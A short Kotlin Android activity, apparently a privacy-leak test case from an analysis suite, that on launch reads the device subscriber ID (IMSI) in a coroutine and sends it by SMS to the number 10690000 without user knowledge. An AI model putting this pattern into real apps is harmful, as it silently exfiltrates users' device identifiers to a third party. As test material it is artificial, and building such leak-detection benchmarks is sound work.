package cn.privlens.suite.with_context_result

import android.app.Activity
import android.content.Context
import android.os.Bundle
import android.telephony.SmsManager
import android.telephony.TelephonyManager
import kotlinx.coroutines.CoroutineScope
import kotlinx.coroutines.Dispatchers
import kotlinx.coroutines.launch
import kotlinx.coroutines.withContext

class Main : Activity() {
    private suspend fun read(): String = withContext(Dispatchers.IO) {
        val id = (getSystemService(Context.TELEPHONY_SERVICE) as TelephonyManager).subscriberId
        "id:" + id
    }
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        CoroutineScope(Dispatchers.Default).launch {
            val text = read()
            SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null)
        }
    }
}
